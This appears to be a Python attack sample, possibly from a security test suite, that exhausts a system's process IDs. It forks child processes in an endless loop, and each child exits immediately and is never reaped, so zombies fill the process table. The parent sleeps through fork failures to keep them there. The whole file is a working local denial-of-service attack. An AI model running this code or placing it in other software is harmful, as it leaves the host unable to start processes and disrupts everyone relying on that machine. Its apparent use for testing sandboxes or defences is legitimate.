"""Children that end and are never waited for take every number that a process can have."""

import os
import time

from attacker import once

once()
while True:
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        time.sleep(1000)
